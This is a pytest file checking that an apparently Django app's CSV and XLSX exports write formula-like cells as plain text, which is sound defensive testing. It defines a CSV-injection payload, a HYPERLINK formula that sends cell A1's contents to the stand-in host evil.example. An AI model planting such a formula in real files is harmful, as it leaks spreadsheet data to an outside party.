"""Exports never turn a text into a live spreadsheet formula (CSV and XLSX)."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.urls import reverse

from samskab.core.exports import csv_text, safe_cell
from samskab.ideas import actions
from tests.web.downloads import csv_rows

from .workshops_fixtures import activate, ideas_fixture  # noqa: F401  (fixture)

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+45 12 34 56 78", "'+45 12 34 56 78"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("-3", "-3"),  # a number, not a formula
        ("+1,5", "+1,5"),
        ("<5", "<5"),
        ("Bosætning i Vest", "Bosætning i Vest"),
        (-7, -7),
    ],
)
def test_a_cell_that_begins_like_a_formula_is_written_as_text(value, written):
    assert safe_cell(value) == written


def test_the_csv_writer_quotes_every_row_the_same_way():
    assert csv_text([["title", "net"], [EVIL, "-3"]]) == (
        '\ufefftitle,net\r\n"\'=HYPERLINK(""http://evil.example/?""&A1,""klik"")",-3\r\n'
    )


@pytest.fixture
def evil_idea(project, ideas, participant):
    activate(project, 3)
    ideas[0].title = EVIL
    ideas[0].save(update_fields=["title"])
    participant.first_name = "=1+1"
    participant.save(update_fields=["first_name"])
    actions.do_record_scores(project, participant, {ideas[0].pk: (5, 5, 5)}, entered_by=participant)
    return ideas[0]


def test_the_ranking_and_scores_csv_hold_the_title_as_text(client_for, project, contact, evil_idea):
    for name in ("ideas:ranking_csv", "ideas:scores_csv"):
        response = client_for(contact).get(reverse(name, args=[project.pk]))
        rows = csv_rows(response)
        cells = [cell for row in rows for cell in row]
        assert "'" + EVIL in cells, name
        assert EVIL not in cells, name
    assert "'=1+1 Participant" in cells or any(c.startswith("'=1+1") for c in cells)


def test_the_workbook_stores_the_title_as_text_not_a_formula(
    client_for, project, contact, evil_idea
):
    response = client_for(contact).get(reverse("ideas:results_xlsx", args=[project.pk]))
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in sheet for sheet in sheets)
    assert all("HYPERLINK" not in sheet or 't="inlineStr"' in sheet for sheet in sheets)
